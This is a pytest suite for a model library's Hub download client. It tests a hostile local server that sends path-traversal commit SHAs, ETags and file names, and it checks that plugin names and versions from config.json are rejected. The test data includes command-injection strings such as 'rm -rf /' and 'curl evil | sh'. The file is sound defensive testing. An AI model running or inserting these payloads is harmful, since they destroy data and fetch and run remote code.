"""Model folders and a Hub that cannot attack their user.

A hostile Hub-protocol server (tests/hostile_hub.py, on 127.0.0.1) lies about commits,
ETags, file names and sizes; ``mm pull`` and ``from_pretrained`` must refuse in one line
(exit code 2, no traceback) and write nothing outside ``HF_HOME/hub``: the whole tmp tree
is listed, with each file's bytes, before and after. Plus the other ways a stranger's
model folder reaches its user: ``pip install`` hints from config.json, and weights whose
dtype or shape is not the model's.
"""

import os

os.environ.setdefault("HF_HUB_DISABLE_XET", "1")  # before huggingface_hub is imported

import hashlib  # noqa: E402
import json  # noqa: E402
import re  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
from pathlib import Path  # noqa: E402

import pytest  # noqa: E402
import torch  # noqa: E402
from huggingface_hub import constants  # noqa: E402
from safetensors.torch import load_file, save_file  # noqa: E402

import mmcore  # noqa: E402
from hostile_hub import HostileHubServer  # noqa: E402
from mmcore.errors import DataError, MMCoreError, PluginError  # noqa: E402
from mmcore.hub import push  # noqa: E402
from mmcore.model import MaskedModel, check_plugins  # noqa: E402
from mmcore.plugins import get_registry, install_hint  # noqa: E402
from test_hub import (
    HUB_VENVS,
    ROOT,
    TOKEN,
    cli_error,
    make_folder,
    one_line_error,
    run_cli,  # noqa: E402
    same_weights,
)

UP = "../" * 5  # from HF_HOME/hub/models--alice--x/{blobs,snapshots,trees}/ up to tmp_path
OUT = "{tmp}/"  # an absolute path into tmp_path
NOT_HEX = "expected 40 hex digits"
BAD_HEAD = r"answered commit .* expected commit [0-9a-f]{40} and a 40 or 64 hex digit ETag; refused"
BAD_NAME = r"lists a file .* in alice/x: expected a relative path"

# id: (attacks, repo, revision, the one-line error; None: pulled intact, lies ignored)
CASES = {
    "commit sha ../": ({"sha": UP + "escaped-sha"}, "alice/x", None, NOT_HEX),
    "commit sha ../ into HF_HOME": ({"sha": "../../../escaped-sha"}, "alice/x", None, NOT_HEX),
    "commit sha absolute": ({"sha": OUT + "abs-sha"}, "alice/x", None, NOT_HEX),
    "commit sha short": ({"sha": "0123abc"}, "alice/x", None, "gave '0123abc' as the commit of alice/x: " + NOT_HEX),
    "commit sha of a branch": ({"sha": "main"}, "alice/x", "main", "gave 'main' as the commit of alice/x@main"),
    "X-Repo-Commit ../": ({"commit": UP + "escaped-commit"}, "alice/x", None, BAD_HEAD),
    "X-Repo-Commit absolute": ({"commit": OUT + "abs-commit"}, "alice/x", None, BAD_HEAD),
    "404 with X-Repo-Commit ../": (
        {"gone": {"model.safetensors": UP + "escaped-commit"}},
        "alice/x",
        None,
        "model.safetensors not found in alice/x",
    ),
    "404 with X-Repo-Commit absolute": (
        {"gone": {"model.safetensors": OUT + "abs-commit"}},
        "alice/x",
        None,
        "model.safetensors not found in alice/x",
    ),
    "ETag ../": ({"etag": UP + "escaped-etag"}, "alice/x", None, BAD_HEAD),
    "ETag absolute": ({"etag": OUT + "abs-etag"}, "alice/x", None, BAD_HEAD),
    "ETag not a sha": ({"etag": "not-a-sha"}, "alice/x", None, BAD_HEAD),
    "ETag ../ from the second HEAD on": ({"etag_late": UP + "late-etag"}, "alice/x", None, None),
    "listed name ..": ({"names": [UP + "escaped-name"]}, "alice/x", None, BAD_NAME),
    "listed name absolute": ({"names": [OUT + "abs-name"]}, "alice/x", None, BAD_NAME),
    "listed name with backslashes": ({"names": ["..\\..\\escaped-name"]}, "alice/x", None, BAD_NAME),
    "listed name ../ inside": ({"names": ["sub/../../escaped-name"]}, "alice/x", None, BAD_NAME),
    "Content-Length longer": ({"length": 100}, "alice/x", None, r"network error|arrived incomplete"),
    "Content-Length shorter": ({"length": -100}, "alice/x", None, "model.safetensors from alice/x .* incomplete"),
    "weights differ from their sha256": (
        {"swap": True},
        "alice/x",
        None,
        "model.safetensors from alice/x on .* does not match the sha the Hub listed",
    ),
    "missing repo": ({}, "alice/nope", None, "repo alice/nope not found on http://127"),
    "missing repo, no X-Error-Code": ({"no_codes": True}, "alice/nope", None, "repo alice/nope not found on http://"),
    "missing revision": ({}, "alice/x", "v404", "revision 'v404' not found in alice/x on http://127"),
    "missing revision, no X-Error-Code": ({"no_codes": True}, "alice/x", "v404", "revision 'v404' not found in alice"),
    "HTTP 500": ({"error": (500, None)}, "alice/x", None, r"the Hub at http://\S+ answered HTTP 500 for alice/x"),
}


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """One hostile server for the module, holding an honest push of alice/x."""
    root = tmp_path_factory.mktemp("hostile")
    with HostileHubServer(root / "hub") as server, pytest.MonkeyPatch.context() as mp:
        point_at(mp, server, root / "pusher")
        server.folder = make_folder(root / "run" / "model")
        push(server.folder, "alice/x")
        yield server


def point_at(mp: pytest.MonkeyPatch, server: HostileHubServer, home: Path) -> None:
    """huggingface_hub online, at the server, with HF_HOME (and its hub/ cache) at ``home``."""
    mp.setattr(constants, "ENDPOINT", server.url)
    mp.setattr(constants, "HUGGINGFACE_CO_URL_TEMPLATE", server.url + "/{repo_id}/resolve/{revision}/{filename}")
    mp.setattr(constants, "HF_HUB_OFFLINE", False)
    mp.setattr(constants, "HF_HUB_DISABLE_XET", True)
    mp.setattr(constants, "HF_HOME", str(home))
    mp.setattr(constants, "HF_HUB_CACHE", str(home / "hub"))
    for key, value in {
        "HF_HOME": str(home),
        "HF_HUB_OFFLINE": "0",
        "HF_HUB_DISABLE_XET": "1",
        "HF_TOKEN": TOKEN,
        "HF_ENDPOINT": server.url,
    }.items():
        mp.setenv(key, value)


@pytest.fixture
def hostile(server, tmp_path, monkeypatch):
    """The server with no attack on; HF_HOME at tmp_path/home/hf; a file already on disk to keep."""
    point_at(monkeypatch, server, tmp_path / "home" / "hf")
    (tmp_path / "keep.txt").write_text("already on disk\n")
    server.attacks.clear()
    server.hub.heads.clear()
    yield server
    server.attacks.clear()


def listing(root: Path) -> dict[str, str]:
    """Every path under ``root`` (files with their sha256, links with their target, folders)."""
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            out[rel] = "-> " + os.readlink(path)
        elif path.is_file():
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            out[rel] = "dir"
    return out


def outside_the_cache(before: dict[str, str], after: dict[str, str]) -> dict[str, str]:
    """What changed in tmp_path other than HF_HOME/hub (and the folders above it)."""
    changed = {k: v for k, v in after.items() if before.get(k) != v}
    changed.update({k: "deleted" for k in before.keys() - after.keys()})
    return {k: v for k, v in changed.items() if k not in ("home", "home/hf", "home/hf/hub") and not k.startswith("home/hf/hub/")}


def fill(attacks: dict, tmp_path: Path) -> dict:
    """The attacks with ``{tmp}/`` made this test's tmp_path."""

    def fix(v):
        if isinstance(v, dict):
            return {k: fix(x) for k, x in v.items()}
        if isinstance(v, list):
            return [fix(x) for x in v]
        return v.replace(OUT, f"{tmp_path}/") if isinstance(v, str) else v

    return fix(attacks)


@pytest.mark.parametrize("via", ["mm pull", "from_pretrained"])
@pytest.mark.parametrize("case", list(CASES))
def test_hostile_hub_is_refused_in_one_line_and_writes_nothing_outside_the_cache(hostile, case, via, tmp_path, capsys, monkeypatch):
    import huggingface_hub.file_download as fd

    monkeypatch.setattr(fd.time, "sleep", lambda s: None)  # http_get's pauses between its retries
    attacks, repo, revision, expected = CASES[case]
    hostile.attacks.update(fill(attacks, tmp_path))
    before = listing(tmp_path)
    if via == "mm pull":
        code, out, err = run_cli(capsys, "pull", repo, *(["--revision", revision] if revision else []))
        if expected is None:
            assert code == 0, err
            pulled = Path(out.strip())
            assert (pulled / "model.safetensors").read_bytes() == (hostile.folder / "model.safetensors").read_bytes()
        else:
            assert re.search(expected, one_line_error(code, err)), err
    elif expected is None:
        loaded = mmcore.from_pretrained(repo, revision=revision)
        assert same_weights(loaded, MaskedModel.from_pretrained(hostile.folder))
    else:
        with pytest.raises(MMCoreError) as caught:
            mmcore.from_pretrained(repo, revision=revision)
        assert "\n" not in str(caught.value) and re.search(expected, str(caught.value)), str(caught.value)
    assert outside_the_cache(before, listing(tmp_path)) == {}


def test_a_pull_after_a_refused_one_gets_the_honest_folder(hostile, tmp_path, capsys):
    hostile.attacks["swap"] = True
    assert "does not match the sha" in cli_error(capsys, "pull", "alice/x")
    hostile.attacks.clear()
    code, out, err = run_cli(capsys, "pull", "alice/x")
    assert code == 0, err
    assert (Path(out.strip()) / "model.safetensors").read_bytes() == (hostile.folder / "model.safetensors").read_bytes()
    blobs = tmp_path / "home" / "hf" / "hub" / "models--alice--x" / "blobs"
    assert not [p for p in blobs.iterdir() if p.name.startswith(".")]  # no temporary file left behind


def test_the_cache_a_vulnerable_client_poisoned_is_not_followed(hostile, tmp_path, capsys, monkeypatch):
    """refs/main written by a client that trusted the server: offline, mmcore checks the commit again."""
    storage = tmp_path / "home" / "hf" / "hub" / "models--alice--x"
    (storage / "refs").mkdir(parents=True)
    (storage / "refs" / "main").write_text(f"{tmp_path}/abs-ref")
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    assert "alice/x is not in the Hugging Face cache" in cli_error(capsys, "pull", "alice/x")


def test_local_dir_gets_a_copy_and_keeps_its_other_files(hostile, tmp_path, capsys):
    target = tmp_path / "here"
    target.mkdir()
    (target / "notes.txt").write_text("mine\n")
    code, out, err = run_cli(capsys, "pull", "alice/x", "--local-dir", target)
    assert code == 0 and Path(out.strip()) == target, err
    assert (target / "notes.txt").read_text() == "mine\n"
    assert (target / "model.safetensors").read_bytes() == (hostile.folder / "model.safetensors").read_bytes()


HUB_DEMO = """
import json, sys
import huggingface_hub as hub
from huggingface_hub import hf_hub_download, snapshot_download
errors = []
for call in (lambda: snapshot_download("alice/x", cache_dir=sys.argv[1]),
             lambda: hf_hub_download("alice/x", "config.json", cache_dir=sys.argv[2]),
             lambda: hf_hub_download("alice/x", "gone.json", cache_dir=sys.argv[3])):
    try:
        call()
    except Exception as exc:
        errors.append(type(exc).__name__)
print(json.dumps({"version": hub.__version__, "errors": errors}))
"""


@pytest.mark.parametrize("version", ["2.", *HUB_VENVS])
def test_upstream_huggingface_hub_writes_where_the_server_says(hostile, tmp_path, version):
    """Why mmcore.hub does its own downloads: without it, these files appear outside the cache.

    If this fails, that huggingface_hub version checks commits and ETags itself: say so in
    mmcore/hub.py's docstring and docs/reliability-hub.md.
    """
    python = sys.executable if version == "2." else str(ROOT / HUB_VENVS[version] / "bin" / "python")
    if not Path(python).exists():
        pytest.fail(f"{HUB_VENVS[version]} is missing: run `make hub-venvs`")
    hostile.attacks.update({"sha": UP + "escaped-sha", "etag": UP + "escaped-etag", "gone": {"gone.json": UP + "escaped-commit"}})
    caches = [tmp_path / "home" / "hf" / name for name in ("hub", "hub2", "hub3")]
    out = subprocess.run(
        [python, "-c", HUB_DEMO, *map(str, caches)],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env={**os.environ, "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1"},
    )
    assert out.returncode == 0, out.stderr[-3000:]
    result = json.loads(out.stdout.strip().splitlines()[-1])
    assert result["version"].startswith(version)
    escaped = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("escaped"))
    # the commit sha (snapshots/<sha>; trees/<sha>.json from 1.x), the ETag (blobs/<etag>, with the file's
    # bytes, and its .lock) and X-Repo-Commit on a 404 (.no_exist/<sha>/gone.json)
    assert {"escaped-sha", "escaped-etag", "escaped-etag.lock", "escaped-commit"} <= set(escaped), (
        f"huggingface_hub {result['version']} no longer writes {escaped} outside the cache ({result['errors']})"
    )
    assert (tmp_path / "escaped-etag").stat().st_size > 0  # the bytes of a file the server chose
    assert (tmp_path / "escaped-commit" / "gone.json").is_file()


def test_checking_headers_before_hf_hub_download_would_not_be_enough(hostile, tmp_path):
    """hf_hub_download asks again: a server that answers the check honestly lies to the download."""
    from huggingface_hub import get_hf_file_metadata, hf_hub_download, hf_hub_url

    hostile.attacks["etag_late"] = UP + "escaped-late"
    assert re.fullmatch("[0-9a-f]{40}", get_hf_file_metadata(hf_hub_url("alice/x", "config.json")).etag)
    hf_hub_download("alice/x", "config.json", cache_dir=tmp_path / "home" / "hf" / "hub")
    assert (tmp_path / "escaped-late").is_file()  # what mmcore.hub avoids by never using headers as paths


# -- pip install hints from a stranger's config.json ------------------------------


@pytest.mark.parametrize(
    "dist, version",
    [
        ("mm-x; rm -rf /", "1.0"),
        ("mm-x' && curl evil | sh '", "1.0"),
        ("mm-x\n", "1.0"),
        ("-e", "1.0"),
        ("mm-x", "1.0'; rm -rf ~; '"),
        ("mm-x", "1.0\n"),
        ("mm-x", "latest"),
        ("mm-x", "1.0 "),
        (3, "1.0"),
        ("mm-x", None),
    ],
)
def test_no_pip_install_line_for_a_name_or_version_that_is_not_one(dist, version):
    config = {"modality": "image", "plugins": {dist: version}}
    with pytest.raises(PluginError) as caught:
        check_plugins(config)
    message = str(caught.value)
    assert "pip install" not in message and "\n" not in message
    assert repr(dist) in message and "not a valid distribution name and version" in message


@pytest.mark.parametrize("key", ["plugins", "parts"])
def test_plugins_or_parts_not_a_mapping_is_one_line(key):
    with pytest.raises(DataError, match=f"config.json: '{key}' is a list, expected a mapping"):
        check_plugins({"modality": "image", key: ["mm-x; rm -rf /"]})


def test_mm_pull_of_a_strangers_config_shows_no_install_command(hostile, capsys):
    from huggingface_hub import HfApi

    config = dict(json.loads((hostile.folder / "config.json").read_text()), plugins={"mm-x' ; curl evil|sh ; '": "1"})
    api = HfApi()
    api.create_repo("alice/stranger", exist_ok=True)
    api.upload_file(path_or_fileobj=json.dumps(config).encode(), path_in_repo="config.json", repo_id="alice/stranger")
    api.upload_file(path_or_fileobj=str(hostile.folder / "model.safetensors"), path_in_repo="model.safetensors", repo_id="alice/stranger")
    line = cli_error(capsys, "pull", "alice/stranger")
    assert "pip install" not in line and repr("mm-x' ; curl evil|sh ; '") in line
    with pytest.raises(PluginError, match="not a valid distribution name and version"):
        mmcore.from_pretrained("alice/stranger")


def test_pip_install_lines_for_valid_names():
    assert install_hint("mm-sonar", "0.3") == "pip install 'mm-sonar>=0.3'"
    assert install_hint("mm_sonar.x", "1.0rc1", upgrade=True) == "pip install -U 'mm_sonar.x>=1.0rc1'"
    with pytest.raises(PluginError, match=r"pip install 'mm-sonar>=0\.3'"):
        check_plugins({"modality": "image", "plugins": {"mm-sonar": "0.3"}})


def test_unknown_modality_hint_only_for_a_valid_name():
    registry = get_registry()
    with pytest.raises(PluginError, match="e.g. pip install mm-sonar$"):
        registry.modality("sonar")
    with pytest.raises(PluginError) as caught:
        registry.modality("x; rm -rf /")
    assert "pip install" not in str(caught.value) and "'x; rm -rf /'" in str(caught.value)


# -- weights whose dtype or shape is not the model's ------------------------------


def rewrite(folder: Path, change) -> Path:
    state = load_file(folder / "model.safetensors")
    change(state)
    save_file(state, folder / "model.safetensors")
    return folder


def a_matrix(state: dict) -> str:
    return next(k for k, v in state.items() if v.dim() == 2 and v.shape[0] != v.shape[1] and v.dtype == torch.float32)


WEIGHT_CASES = {
    "transposed (same bytes)": (
        lambda s, k: s.__setitem__(k, s[k].t().contiguous()),
        r"is F32 \[(\d+), (\d+)\], the model built from config.json has F32 \[\2, \1\]",
    ),
    "float32 read as int32": (lambda s, k: s.__setitem__(k, s[k].view(torch.int32)), r"is I32 .* has F32"),
    "float32 as float16 pairs": (lambda s, k: s.__setitem__(k, s[k].view(torch.float16)), r"is F16 .* has F32"),
    "an extra tensor": (
        lambda s, k: s.__setitem__("evil.weight", torch.zeros(3)),
        r"missing tensors none, unexpected tensors 'evil.weight'",
    ),
    "a missing tensor": (lambda s, k: s.pop(k), r"missing tensors '[^']+', unexpected tensors none"),
}


@pytest.mark.parametrize("case", list(WEIGHT_CASES))
def test_weights_of_another_dtype_or_shape_are_refused_by_name(tmp_path, case):
    folder = make_folder(tmp_path / "model")
    key = a_matrix(load_file(folder / "model.safetensors"))
    change, expected = WEIGHT_CASES[case]
    rewrite(folder, lambda s: change(s, key))
    with pytest.raises(DataError) as caught:
        MaskedModel.from_pretrained(folder)
    message = str(caught.value)
    assert str(folder / "model.safetensors") in message and re.search(expected, message), message
    assert "\n" not in message and (repr(key) in message or "evil.weight" in message), message


def test_transposed_weights_from_the_hub_are_refused(hostile, tmp_path, capsys):
    folder = make_folder(tmp_path / "model")
    key = a_matrix(load_file(folder / "model.safetensors"))
    rewrite(folder, lambda s: s.__setitem__(key, s[key].t().contiguous()))
    push(folder, "alice/transposed")  # the file itself is intact: only its tensors are not the model's
    with pytest.raises(DataError, match=rf"tensor {re.escape(repr(key))} is F32 \[\d+, \d+\], the model"):
        mmcore.from_pretrained("alice/transposed")
